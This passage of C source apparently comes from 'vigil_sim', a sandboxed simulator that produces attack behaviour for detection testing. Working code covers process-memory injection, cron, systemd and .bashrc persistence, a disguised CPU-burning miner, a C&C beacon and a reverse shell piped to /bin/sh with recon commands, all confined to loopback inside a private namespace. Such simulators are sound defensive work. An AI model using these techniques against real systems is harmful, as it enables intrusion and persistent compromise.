	ssize_t n = read(fd, tok, sizeof(tok) - 1);
	close(fd);
	tok[n < 0 ? 0 : n] = '\0';
	return strcmp(tok, want) == 0;
}

static void require_sandbox(void)
{
	if (!in_sandbox()) {
		fprintf(stderr, "vigil_sim: refusing to act outside the simulator's private namespace "
				"(run vigil_sim itself, as root; it creates the namespace)\n");
		_exit(2);
	}
}

static void pause_ms(int ms)
{
	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000L };
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
}

/* ---- children killed on the runtime cap ---- */

static volatile pid_t kill_on_exit[3]; /* hollowed child, miner, server */

static void kill_children(void)
{
	for (int i = 0; i < 3; i++)
		if (kill_on_exit[i] > 0)
			kill(kill_on_exit[i], SIGKILL);
}

static void on_alarm(int sig)
{
	static const char msg[] = "{\"stage\":\"sim\",\"event\":\"timeout\"}\n";
	kill_children();
	for (int i = 0; i < 3; i++) /* reaped, so the namespace is gone when we are */
		if (kill_on_exit[i] > 0)
			waitpid(kill_on_exit[i], NULL, 0);
	if (write(1, msg, sizeof(msg) - 1) < 0)
		_exit(3);
	_exit(3);
}

static volatile sig_atomic_t stop_flag;

static void on_stop(int sig)
{
	stop_flag = sig;
}

/* ---- the namespace ---- */

static int lo_up(void)
{
	struct ifreq ifr;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), rc = 0;
	if (fd < 0)
		return -errno;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "lo");
	if (ioctl(fd, SIOCGIFFLAGS, &ifr) < 0 || (ifr.ifr_flags |= IFF_UP | IFF_RUNNING, ioctl(fd, SIOCSIFFLAGS, &ifr) < 0))
		rc = -errno;
	close(fd);
	return rc;
}

static int tmpfs_on(const char *dir, const char *opts)
{
	if (mount("vigil-sim", dir, "tmpfs", MS_NOSUID | MS_NODEV, opts) < 0) {
		fprintf(stderr, "vigil_sim: mount tmpfs on %s: %s\n", dir, strerror(errno));
		return -1;
	}
	return 0;
}

/* Writes SIM_DIR/nsswitch.conf: the host's, with the hosts line replaced by "files dns". */
static int write_nsswitch(void)
{
	char linebuf[1024];
	FILE *in = fopen("/etc/nsswitch.conf", "re"), *out = fopen(SIM_DIR "/nsswitch.conf", "we");
	int rc = 0;
	if (!out) {
		if (in)
			fclose(in);
		return -1;
	}
	while (in && fgets(linebuf, sizeof(linebuf), in))
		if (strncmp(linebuf, "hosts:", 6) != 0)
			fputs(linebuf, out);
	if (!in)
		fputs("passwd: files\ngroup: files\nshadow: files\n", out);
	fputs("hosts: files dns\n", out);
	if (in)
		fclose(in);
	if (fclose(out) != 0)
		rc = -1;
	return rc;
}

/* Enters private mount and network namespaces and lays out the throwaway file system. */
static int setup_sandbox(const struct plan *p, char *token, size_t toklen)
{
	struct stat st;
	uint8_t rnd[12];
	char path[PATH_MAX];

	char host[64];
	ns_link(getpid(), "mnt", host, sizeof(host));
	setenv("VIGIL_SIM_HOST_MNTNS", host, 1);
	ns_link(getpid(), "net", host, sizeof(host));
	setenv("VIGIL_SIM_HOST_NETNS", host, 1);
	if (unshare(CLONE_NEWNS | CLONE_NEWNET) < 0) {
		fprintf(stderr, "vigil_sim: unshare(CLONE_NEWNS|CLONE_NEWNET): %s (needs root)\n", strerror(errno));
		return -1;
	}
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) {
		fprintf(stderr, "vigil_sim: making / private: %s\n", strerror(errno));
		return -1;
	}
	int rc = lo_up();
	if (rc < 0) {
		fprintf(stderr, "vigil_sim: bringing lo up: %s\n", strerror(-rc));
		return -1;
	}
	if (tmpfs_on("/tmp", "mode=1777,size=64m") || tmpfs_on("/dev/shm", "mode=1777,size=64m") ||
	    tmpfs_on("/var/tmp", "mode=1777,size=16m") || tmpfs_on("/home", "mode=0755,size=64m"))
		return -1;
	/* The crontab spool: a tmpfs over the host's, or over /var/spool when cron is not installed. */
	if (stat("/var/spool/cron", &st) == 0 && S_ISDIR(st.st_mode)) {
		if (tmpfs_on("/var/spool/cron", "mode=0755,size=4m"))
			return -1;
	} else if (tmpfs_on("/var/spool", "mode=0755,size=4m")) {
		return -1;
	}
	if (mkdirs("/var/spool/cron/crontabs", 0730) < 0 || mkdirs(SIM_DIR, 0700) < 0) {
		fprintf(stderr, "vigil_sim: creating the spool and %s: %s\n", SIM_DIR, strerror(errno));
		return -1;
	}
	if (getrandom(rnd, sizeof(rnd), 0) != (ssize_t)sizeof(rnd)) {
		fprintf(stderr, "vigil_sim: getrandom: %s\n", strerror(errno));
		return -1;
	}
	for (size_t i = 0; i < sizeof(rnd) && 2 * i + 2 < toklen; i++)
		snprintf(token + 2 * i, 3, "%02x", rnd[i]);
	if (write_file(SIM_DIR "/token", token, O_TRUNC, 0600) < 0 ||
	    write_file(SIM_DIR "/resolv.conf", "nameserver 127.0.0.1\noptions timeout:2 attempts:2\n", O_TRUNC, 0644) <
		    0) {
		fprintf(stderr, "vigil_sim: writing %s: %s\n", SIM_DIR, strerror(errno));
		return -1;
	}
	if (mount(SIM_DIR "/resolv.conf", "/etc/resolv.conf", NULL, MS_BIND, NULL) < 0) {
		fprintf(stderr, "vigil_sim: binding the stub's resolv.conf over /etc/resolv.conf: %s\n", strerror(errno));
		return -1;
	}
	/* glibc must ask the stub, not a host daemon over a socket (nss-resolve): hosts from files, then DNS. */
	if (write_nsswitch() < 0 ||
	    mount(SIM_DIR "/nsswitch.conf", "/etc/nsswitch.conf", NULL, MS_BIND, NULL) < 0) {
		fprintf(stderr, "vigil_sim: binding a private /etc/nsswitch.conf: %s\n", strerror(errno));
		return -1;
	}
	setenv("VIGIL_SIM_TOKEN", token, 1);
	/* The throwaway home with an ordinary-looking shell rc. */
	snprintf(path, sizeof(path), "%s/.config", p->home);
	if (mkdirs(path, 0755) < 0 || write_file(p->rc_path, "# ~/.bashrc\n[ -z \"$PS1\" ] && return\nHISTSIZE=1000\nalias ll='ls -l'\n",
						  O_TRUNC, 0644) < 0) {
		fprintf(stderr, "vigil_sim: creating %s: %s\n", p->home, strerror(errno));
		return -1;
	}
	setenv("HOME", p->home, 1);
	setenv("USER", p->user, 1);
	setenv("LOGNAME", p->user, 1);
	if (chdir(p->home) < 0)
		return -1;
	return 0;
}

/* ---- stage: hollow ---- */

static int stack_range(pid_t pid, uintptr_t *lo)
{
	char path[64], linebuf[512];
	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	FILE *f = fopen(path, "re");
	if (!f)
		return -errno;
	int rc = -ENOENT;
	while (fgets(linebuf, sizeof(linebuf), f))
		if (strstr(linebuf, "[stack]")) {
			unsigned long a, b;
			if (sscanf(linebuf, "%lx-%lx", &a, &b) == 2) {
				*lo = a;
				rc = 0;
			}
			break;
		}
	fclose(f);
	return rc;
}

static void emit_write(pid_t child, const char *method, uintptr_t addr, size_t len, int ok, const char *err)
{
	struct line l;
	char a[32];
	snprintf(a, sizeof(a), "0x%" PRIxPTR, addr);
	line_begin(&l, "hollow", "write");
	vg_buf_json_ki(&l.b, &l.first, "target_pid", child);
	vg_buf_json_kv(&l.b, &l.first, "method", method);
	vg_buf_json_kv(&l.b, &l.first, "addr", a);
	vg_buf_json_ku(&l.b, &l.first, "len", len);
	vg_buf_json_key(&l.b, &l.first, "verified");
	vg_buf_puts(&l.b, ok ? "true" : "false");
	vg_buf_json_kv(&l.b, &l.first, "error", err);
	line_end(&l);
	if (!ok)
		stage_failed = 1;
}

/*
 * Starts a system program stopped at its first instruction (PTRACE_TRACEME
 * then exec, the Linux form of CREATE_SUSPENDED), writes a marker into the
 * unused low end of its stack three ways, reads each back, and kills it
 * before it runs a single instruction of its own.
 */
static void stage_hollow(const struct plan *p)
{
	struct line l;
	int st = 0;
	pid_t c = fork();
	if (c < 0) {
		emit_error("hollow", "fork: %s", strerror(errno));
		return;
	}
	if (c == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0)
			_exit(126);
		execl(p->hollow_path, strrchr(p->hollow_path, '/') + 1, p->hollow_arg, (char *)NULL);
		_exit(127);
	}
	kill_on_exit[0] = c;
	if (waitpid(c, &st, 0) != c || !WIFSTOPPED(st) || WSTOPSIG(st) != SIGTRAP) {
		emit_error("hollow", "%s did not stop at exec (status 0x%x)", p->hollow_path, st);
		kill(c, SIGKILL);
		waitpid(c, NULL, 0);
		return;
	}
	line_begin(&l, "hollow", "spawned");
	vg_buf_json_ki(&l.b, &l.first, "target_pid", c);
	vg_buf_json_kv(&l.b, &l.first, "path", p->hollow_path);
	vg_buf_json_kv(&l.b, &l.first, "state", "stopped at exec");
	line_end(&l);

	uintptr_t base = 0;
	int rc = stack_range(c, &base);
	if (rc < 0) {
		emit_error("hollow", "no [stack] mapping in /proc/%d/maps: %s", (int)c, strerror(-rc));
	} else if (p->benign) {
		/* The benign form only reads, as a debugger inspecting a fresh child would. */
		errno = 0;
		long w = ptrace(PTRACE_PEEKDATA, c, (void *)base, NULL);
		int peek_ok = w != -1 || errno == 0;
		char buf[16];
		struct iovec lv = { buf, sizeof(buf) }, rv = { (void *)(base + 64), sizeof(buf) };
		int read_ok = process_vm_readv(c, &lv, 1, &rv, 1, 0) == (ssize_t)sizeof(buf);
		line_begin(&l, "hollow", "read");
		vg_buf_json_ki(&l.b, &l.first, "target_pid", c);
		vg_buf_json_key(&l.b, &l.first, "ok");
		vg_buf_puts(&l.b, peek_ok && read_ok ? "true" : "false");
		line_end(&l);
	} else {
		/* 1: PTRACE_POKEDATA, one word. */
		uint64_t word;
		memcpy(&word, "VIGILSIM", 8);
		uintptr_t a1 = base + 64;
		int ok = ptrace(PTRACE_POKEDATA, c, (void *)a1, (void *)(uintptr_t)word) == 0;
		errno = 0;
		long back = ptrace(PTRACE_PEEKDATA, c, (void *)a1, NULL);
		ok = ok && errno == 0 && (uint64_t)back == word;
		emit_write(c, "ptrace_pokedata", a1, 8, ok, ok ? NULL : strerror(errno));

		/* 2: process_vm_writev. */
		static const char m2[16] = "vigil-sim-vmwrit";
		char rb[16];
		uintptr_t a2 = base + 128;
		struct iovec lv = { (void *)m2, sizeof(m2) }, rv = { (void *)a2, sizeof(m2) };
		ok = process_vm_writev(c, &lv, 1, &rv, 1, 0) == (ssize_t)sizeof(m2);
		lv.iov_base = rb;
		ok = ok && process_vm_readv(c, &lv, 1, &rv, 1, 0) == (ssize_t)sizeof(rb) && memcmp(rb, m2, 16) == 0;
		emit_write(c, "process_vm_writev", a2, 16, ok, ok ? NULL : strerror(errno));

		/* 3: a write to /proc/<pid>/mem. */
		static const char m3[16] = "vigil-sim-procmm";
		char mp[64];
		uintptr_t a3 = base + 192;
		snprintf(mp, sizeof(mp), "/proc/%d/mem", (int)c);
		int fd = open(mp, O_RDWR | O_CLOEXEC);
		ok = fd >= 0 && pwrite(fd, m3, sizeof(m3), (off_t)a3) == (ssize_t)sizeof(m3) &&
		     pread(fd, rb, sizeof(rb), (off_t)a3) == (ssize_t)sizeof(rb) && memcmp(rb, m3, 16) == 0;
		int e = errno;
		if (fd >= 0)
			close(fd);
		emit_write(c, "proc_mem_write", a3, 16, ok, ok ? NULL : strerror(e));
	}
	kill(c, SIGKILL);
	waitpid(c, &st, 0);
	kill_on_exit[0] = 0;
	line_begin(&l, "hollow", "killed");
	vg_buf_json_ki(&l.b, &l.first, "target_pid", c);
	line_end(&l);
}

/* ---- stage: drop ---- */

static void stage_drop(const struct plan *p)
{
	int rc = mkdirs(p->drop_dir, 0700);
	if (rc < 0) {
		emit_error("drop", "mkdir %s: %s", p->drop_dir, strerror(-rc));
		return;
	}
	long long n = copy_file("/proc/self/exe", p->drop_path);
	if (n < 0) {
		emit_error("drop", "copying /proc/self/exe to %s: %s", p->drop_path, strerror((int)-n));
		return;
	}
	int prc = pad_file(p, p->drop_path, 1);
	if (prc < 0) {
		emit_error("drop", "padding %s: %s", p->drop_path, strerror(-prc));
		return;
	}
	n += p->pad_bytes ? p->pad_bytes + 97 : 0;
	if (chmod(p->drop_path, 0755) < 0) {
		emit_error("drop", "chmod %s: %s", p->drop_path, strerror(errno));
		return;
	}
	struct line l;
	line_begin(&l, "drop", "file");
	vg_buf_json_kv(&l.b, &l.first, "path", p->drop_path);
	vg_buf_json_ki(&l.b, &l.first, "size", n);
	vg_buf_json_kv(&l.b, &l.first, "mode", "0755");
	line_end(&l);
}

/* ---- stage: persist ---- */

static void emit_persist(const char *kind, const char *path, const char *target)
{
	struct line l;
	line_begin(&l, "persist", "file");
	vg_buf_json_kv(&l.b, &l.first, "kind", kind);
	vg_buf_json_kv(&l.b, &l.first, "path", path);
	vg_buf_json_kv(&l.b, &l.first, "target", target);
	line_end(&l);
}

static void stage_persist(const struct plan *p)
{
	char text[1024], dir[PATH_MAX];
	const char *target = p->benign ? "/usr/bin/true" : p->drop_path;
	int rc;

	/* cron: the user's crontab in the spool, as crontab(1) leaves it. */
	snprintf(text, sizeof(text),
		 "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (installed by vigil_sim)\n%s\n", p->cron_line);
	rc = p->persist_kinds & PK_CRON ? write_file(p->cron_path, text, O_TRUNC, 0600) : 1;
	if (rc == 1)
		;
	else if (rc < 0)
		emit_error("persist", "writing %s: %s", p->cron_path, strerror(-rc));
	else
		emit_persist("cron", p->cron_path, target);

	/* systemd --user: the unit, enabled by the link in default.target.wants. */
	snprintf(dir, sizeof(dir), "%s/.config/systemd/user/default.target.wants", p->home);
	rc = p->persist_kinds & PK_SYSTEMD ? mkdirs(dir, 0755) : 1;
	if (rc == 0)
		rc = write_file(p->unit_path, p->unit_text, O_TRUNC, 0644);
	if (rc == 0 && symlink(p->unit_path, p->unit_wants) < 0 && errno != EEXIST)
		rc = -errno;
	if (rc == 1)
		;
	else if (rc < 0)
		emit_error("persist", "writing %s: %s", p->unit_path, strerror(-rc));
	else
		emit_persist("systemd", p->unit_path, target);

	/* shell rc: one line appended to the existing ~/.bashrc. */
	snprintf(text, sizeof(text), "%s\n", p->rc_line);
	rc = p->persist_kinds & PK_SHELL_RC ? write_file(p->rc_path, text, O_APPEND, 0644) : 1;
	if (rc == 1)
		;
	else if (rc < 0)
		emit_error("persist", "appending to %s: %s", p->rc_path, strerror(-rc));
	else
		emit_persist("shell_rc", p->rc_path, target);
}

/* ---- stage: miner ---- */

static int miner_pid;

/*
 * Copies the program (the dropped copy when there is one) to /dev/shm and
 * starts it under a kernel thread's name; it burns CPU for a bounded time
 * and sends the stratum login. Returns the read end of a pipe the miner
 * closes when its work is done, or -1.
 */
static int stage_miner(const struct plan *p, int linger)
{
	char env[11][600];
	char *envp[12];
	int pfd[2];
	const char *src = access(p->drop_path, X_OK) == 0 ? p->drop_path : "/proc/self/exe";

	if (strcmp(src, p->miner_path) != 0) {
		long long n = copy_file(src, p->miner_path);
		if (n >= 0 && pad_file(p, p->miner_path, 2) < 0)
			n = -EIO;
		if (n < 0 || chmod(p->miner_path, 0755) < 0) {
			emit_error("miner", "copying %s to %s: %s", src, p->miner_path, strerror(n < 0 ? (int)-n : errno));
			return -1;
		}
	}
	if (pipe2(pfd, O_CLOEXEC) < 0) {
		emit_error("miner", "pipe: %s", strerror(errno));
		return -1;
	}
	snprintf(env[0], sizeof(env[0]), "VIGIL_SIM_ROLE=%s", p->agent_role);
	snprintf(env[1], sizeof(env[1]), "VIGIL_SIM_TOKEN=%s", getenv("VIGIL_SIM_TOKEN"));
	snprintf(env[2], sizeof(env[2]), "VIGIL_SIM_PORT=%d", p->pool_port);
	snprintf(env[3], sizeof(env[3]), "VIGIL_SIM_BURN_MS=%d", p->burn_ms);
	snprintf(env[4], sizeof(env[4]), "VIGIL_SIM_THREADS=%d", p->threads);
	snprintf(env[5], sizeof(env[5]), "VIGIL_SIM_COMM=%s", p->miner_comm);
	snprintf(env[6], sizeof(env[6]), "VIGIL_SIM_LINGER=%d", linger);
	snprintf(env[7], sizeof(env[7]), "VIGIL_SIM_MAX_SECONDS=%d", p->max_seconds);
	snprintf(env[8], sizeof(env[8]), "VIGIL_SIM_PAYLOAD=%s",
		 strcmp(p->agent_role, "beacon") == 0 ? p->beacon_request : p->pool_payload);
	snprintf(env[9], sizeof(env[9]), "VIGIL_SIM_HOST_MNTNS=%s", getenv("VIGIL_SIM_HOST_MNTNS"));
	snprintf(env[10], sizeof(env[10]), "VIGIL_SIM_HOST_NETNS=%s", getenv("VIGIL_SIM_HOST_NETNS"));
	for (int i = 0; i < 11; i++)
		envp[i] = env[i];
	envp[11] = NULL;

	pid_t c = fork();
	if (c < 0) {
		emit_error("miner", "fork: %s", strerror(errno));
		close(pfd[0]);
		close(pfd[1]);
		return -1;
	}
	if (c == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (pfd[1] == DONE_FD)
			fcntl(DONE_FD, F_SETFD, 0);
		else if (dup2(pfd[1], DONE_FD) < 0)
			_exit(126);
		char *argv[5] = { (char *)p->miner_argv0, NULL };
		int na = 1;
		for (int i = 0; i < 3; i++)
			if (p->agent_args[i][0])
				argv[na++] = (char *)p->agent_args[i];
		argv[na] = NULL;
		execve(p->miner_path, argv, envp);
		_exit(127);
	}
	close(pfd[1]);
	miner_pid = c;
	kill_on_exit[1] = c;
	struct line l;
	line_begin(&l, "miner", "exec");
	vg_buf_json_ki(&l.b, &l.first, "miner_pid", c);
	vg_buf_json_kv(&l.b, &l.first, "path", p->miner_path);
	vg_buf_json_kv(&l.b, &l.first, "argv0", p->miner_argv0);
	vg_buf_json_kv(&l.b, &l.first, "comm", p->miner_comm);
	line_end(&l);
	return pfd[0];
}

struct burn_arg {
	int ms;
};

static void *burn(void *arg)
{
	const struct burn_arg *b = arg;
	struct timespec t0, cpu, now;
	volatile uint64_t x = 0;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		for (int i = 0; i < 100000; i++)
			x = x * 6364136223846793005ull + 1442695040888963407ull;
		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &cpu);
		clock_gettime(CLOCK_MONOTONIC, &now);
		long cpu_ms = cpu.tv_sec * 1000 + cpu.tv_nsec / 1000000;
		long wall_ms = (now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000;
		/* Stop at the CPU budget, or at four times it in wall time on a busy machine. */
		if (cpu_ms >= b->ms || wall_ms >= 4L * b->ms)
			break;
	}
	return NULL;
}

static int env_int(const char *name, int lo, int hi, int dflt)
{
	const char *v = getenv(name);
	char *end;
	long n = v ? strtol(v, &end, 10) : dflt;
	if (!v || *end || n < lo || n > hi)
		return dflt;
	return (int)n;
}

/* The miner itself: the dropped copy run under a kernel thread's name. */
static int miner_main(void)
{
	require_sandbox();
	int burn_ms = env_int("VIGIL_SIM_BURN_MS", 1, BURN_MS_MAX, 200);
	int threads = env_int("VIGIL_SIM_THREADS", 1, 8, 1);
	int port = env_int("VIGIL_SIM_PORT", 1, 65535, 3333);
	int linger = env_int("VIGIL_SIM_LINGER", 0, 1, 0);
	int max_s = env_int("VIGIL_SIM_MAX_SECONDS", 1, MAX_SECONDS_MAX, 60);
	const char *comm = getenv("VIGIL_SIM_COMM"), *payload = getenv("VIGIL_SIM_PAYLOAD");
	struct line l;
	char reply[512] = "";

	alarm((unsigned)max_s);
	/* Hard caps: CPU time for the whole process, lowest priority. */
	struct rlimit rl = { (rlim_t)((burn_ms * threads) / 1000 + 2), (rlim_t)((burn_ms * threads) / 1000 + 3) };
	setrlimit(RLIMIT_CPU, &rl);
	if (nice(19) < 0 && errno)
		fprintf(stderr, "vigil_sim miner: nice: %s\n", strerror(errno));
	char old[17] = "";
	prctl(PR_GET_NAME, old);
	if (comm && *comm)
		prctl(PR_SET_NAME, comm);
	line_begin(&l, "miner", "renamed");
	vg_buf_json_kv(&l.b, &l.first, "old_comm", old);
	vg_buf_json_kv(&l.b, &l.first, "comm", comm);
	line_end(&l);

	pthread_t tid[8];
	struct burn_arg ba = { burn_ms };
	int started = 0;
	for (int i = 0; i < threads; i++)
		if (pthread_create(&tid[i], NULL, burn, &ba) == 0)
			started++;
	for (int i = 0; i < started; i++)
		pthread_join(tid[i], NULL);
	struct rusage ru;
	getrusage(RUSAGE_SELF, &ru);
	line_begin(&l, "miner", "burned");
	vg_buf_json_ki(&l.b, &l.first, "threads", started);
	vg_buf_json_ki(&l.b, &l.first, "cpu_ms", ru.ru_utime.tv_sec * 1000 + ru.ru_utime.tv_usec / 1000 +
							      ru.ru_stime.tv_sec * 1000 + ru.ru_stime.tv_usec / 1000);
	line_end(&l);

	int rc = 0, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		emit_error("miner", "connect 127.0.0.1:%d: %s", port, strerror(errno));
		rc = 1;
	} else {
		size_t len = payload ? strlen(payload) : 0;
		ssize_t n = write(fd, payload ? payload : "", len); /* write(), the call the brief names */
		struct sockaddr_in me = { 0 };
		socklen_t ml = sizeof(me);
		getsockname(fd, (struct sockaddr *)&me, &ml);
		line_begin(&l, "miner", "sent");
		vg_buf_json_ki(&l.b, &l.first, "port", port);
		vg_buf_json_ki(&l.b, &l.first, "local_port", ntohs(me.sin_port));
		vg_buf_json_kv(&l.b, &l.first, "syscall", "write");
		vg_buf_json_ki(&l.b, &l.first, "bytes", n);
		line_end(&l);
		size_t got = 0;
		while (got < sizeof(reply) - 1) {
			ssize_t r = read(fd, reply + got, sizeof(reply) - 1 - got);
			if (r <= 0)
				break;
			got += (size_t)r;
			if (memchr(reply, '\n', got))
				break;
		}
		reply[got] = '\0';
		char *nl = strchr(reply, '\n');
		if (nl)
			*nl = '\0';
		line_begin(&l, "miner", "reply");
		vg_buf_json_kv(&l.b, &l.first, "line", reply);
		line_end(&l);
	}
	if (fd >= 0)
		close(fd);
	close(DONE_FD); /* tells the simulator the work is done and reported */
	if (linger) {
		struct sigaction sa_stop = { .sa_handler = on_stop };
		sigaction(SIGTERM, &sa_stop, NULL);
		while (!stop_flag)
			pause();
	}
	return rc;
}

/* --variant CronStager: the started copy calls its C&C over HTTP once and exits. */
static int beacon_main(void)
{
	require_sandbox();
	int port = env_int("VIGIL_SIM_PORT", 1, 65535, 80);
	const char *req = getenv("VIGIL_SIM_PAYLOAD");
	struct line l;
	char reply[256] = "";
	int rc = 0, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

	alarm(60);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		emit_error("beacon", "connect 127.0.0.1:%d: %s", port, strerror(errno));
		rc = 1;
	} else {
		ssize_t n = write(fd, req ? req : "", req ? strlen(req) : 0);
		ssize_t r = read(fd, reply, sizeof(reply) - 1);
		reply[r > 0 ? r : 0] = '\0';
		char *nl = strpbrk(reply, "\r\n");
		if (nl)
			*nl = '\0';
		line_begin(&l, "beacon", "sent");
		vg_buf_json_ki(&l.b, &l.first, "port", port);
		vg_buf_json_ki(&l.b, &l.first, "bytes", n);
		vg_buf_json_kv(&l.b, &l.first, "reply", reply);
		line_end(&l);
	}
	if (fd >= 0)
		close(fd);
	close(DONE_FD);
	return rc;
}

/* --variant RevShell: the started copy connects back and hands its socket to /bin/sh. */
static int shell_main(void)
{
	require_sandbox();
	int port = env_int("VIGIL_SIM_PORT", 1, 65535, 4444);
	struct line l;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

	alarm(60);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		emit_error("shell", "connect 127.0.0.1:%d: %s", port, strerror(errno));
		close(DONE_FD);
		return 1;
	}
	line_begin(&l, "shell", "connected");
	vg_buf_json_ki(&l.b, &l.first, "port", port);
	line_end(&l);
	/* the shell keeps DONE_FD open until it exits: the simulator waits for it */
	if (dup2(fd, 0) < 0 || dup2(fd, 1) < 0 || dup2(fd, 2) < 0)
		_exit(126);
	close(fd);
	char *argv[] = { "sh", "-i", NULL };
	char *envp[] = { "PATH=/usr/bin:/bin", "PS1=$ ", NULL };
	execve("/bin/sh", argv, envp);
	_exit(127);
}

/* ---- the fake pool and the stub resolver (one child process) ---- */

static const char *serve_role = "miner"; /* the started copy's role: what the server plays (pool, C&C, shell handler) */

/* The reverse shell's handler: sends a few reconnaissance commands, reads what comes back. */
static void serve_shell_client(int c, int port)
{
	static const char cmds[] = "id\nuname -a\nhostname\nls /tmp\nexit\n";
	char buf[4096];
	size_t got = 0;
	struct pollfd pf = { c, POLLIN, 0 };

	if (write(c, cmds, sizeof(cmds) - 1) < 0)
		fprintf(stderr, "vigil_sim shell handler: write: %s\n", strerror(errno));
	while (got < sizeof(buf) - 1 && poll(&pf, 1, 5000) > 0) {
		ssize_t n = read(c, buf + got, sizeof(buf) - 1 - got);
		if (n <= 0)
			break;
		got += (size_t)n;
	}
	buf[got] = '\0';
	struct line l;
	line_begin(&l, "handler", "output");
	vg_buf_json_ki(&l.b, &l.first, "port", port);
	vg_buf_json_ki(&l.b, &l.first, "bytes", (long long)got);
	line_end(&l);
	close(c);
}

static void serve_pool_client(int c, int port)
{
	char buf[2048];
	if (strcmp(serve_role, "shell") == 0) {
		serve_shell_client(c, port);
		return;
	}
	size_t got = 0;
	struct sockaddr_in peer = { 0 };
	socklen_t pl = sizeof(peer);
	struct pollfd pf = { c, POLLIN, 0 };

	while (got < sizeof(buf) - 1 && poll(&pf, 1, 5000) > 0) {
		ssize_t n = read(c, buf + got, sizeof(buf) - 1 - got);
		if (n <= 0)
			break;
		got += (size_t)n;
		if (memchr(buf, '\n', got))
			break;
	}
	buf[got] = '\0';
	char *nl = strchr(buf, '\n');
	if (nl)
		*nl = '\0';
	getpeername(c, (struct sockaddr *)&peer, &pl); /* TCP has no SO_PEERCRED; the port ties it to the miner */
	struct line l;
	line_begin(&l, "pool", "received");
	vg_buf_json_ki(&l.b, &l.first, "port", port);
	vg_buf_json_ki(&l.b, &l.first, "peer_port", ntohs(peer.sin_port));
	vg_buf_json_kv(&l.b, &l.first, "line", buf);
	line_end(&l);
	static const char ok[] = "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"status\":\"OK\"}}\n";
	static const char task[] = "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nsleep 300\n";
	int beacon = strcmp(serve_role, "beacon") == 0;
	if (write(c, beacon ? task : ok, beacon ? sizeof(task) - 1 : sizeof(ok) - 1) < 0)
		fprintf(stderr, "vigil_sim pool: reply: %s\n", strerror(errno));
	close(c);
}

static void serve_dns_packet(int u)
{
	uint8_t msg[1500], out[1600];
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	struct dns_query q;
	char err[160];
	ssize_t n = recvfrom(u, msg, sizeof(msg), 0, (struct sockaddr *)&from, &fl);
	if (n <= 0)
		return;
	struct line l;
	if (dns_parse_query(msg, (size_t)n, &q, err, sizeof(err)) < 0) {
		line_begin(&l, "dns", "bad_query");
		vg_buf_json_kv(&l.b, &l.first, "error", err);
		line_end(&l);
		return;
	}
	int answer = q.qtype == 1 && q.qclass == 1;
	char a[INET_ADDRSTRLEN];
	inet_ntop(AF_INET, answer_addr, a, sizeof(a));
	line_begin(&l, "dns", "query");
	vg_buf_json_kv(&l.b, &l.first, "name", q.name);
	vg_buf_json_ki(&l.b, &l.first, "qtype", q.qtype);
	vg_buf_json_kv(&l.b, &l.first, "answer", answer ? a : NULL);
	line_end(&l);
	size_t rl = dns_build_reply(msg, &q, answer_addr, out, sizeof(out));
	if (rl && sendto(u, out, rl, 0, (struct sockaddr *)&from, fl) < 0)
		fprintf(stderr, "vigil_sim dns: sendto: %s\n", strerror(errno));
}

static void serve(int lfd, int ufd, int port)
{
	struct sigaction sa_stop = { .sa_handler = on_stop };
	sigaction(SIGTERM, &sa_stop, NULL);
	while (!stop_flag) {
		struct pollfd pf[2] = { { lfd, POLLIN, 0 }, { ufd, POLLIN, 0 } };
		int n = poll(pf, 2, -1);
		if (n < 0)
			continue;
		if (lfd >= 0 && (pf[0].revents & POLLIN)) {
			int c = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
			if (c >= 0)
				serve_pool_client(c, port);
		}
		if (ufd >= 0 && (pf[1].revents & POLLIN))
			serve_dns_packet(ufd);
	}
}

/* Binds the pool and the resolver in this process (so they are ready before any stage) and serves them from a child. */
static pid_t start_servers(const struct plan *p)
{
	int lfd = -1, ufd = -1, one = 1;
	struct sockaddr_in sa = { .sin_family = AF_INET };
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);

	if (p->stages & ST_MINER) {
		lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		sa.sin_port = htons((uint16_t)p->pool_port);
		if (lfd < 0 || setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
		    bind(lfd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(lfd, 8) < 0) {
			fprintf(stderr, "vigil_sim: fake pool on 127.0.0.1:%d: %s\n", p->pool_port, strerror(errno));
			return -1;
		}
	}
	if (p->stages & ST_CNC) {
		ufd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		sa.sin_port = htons(53);
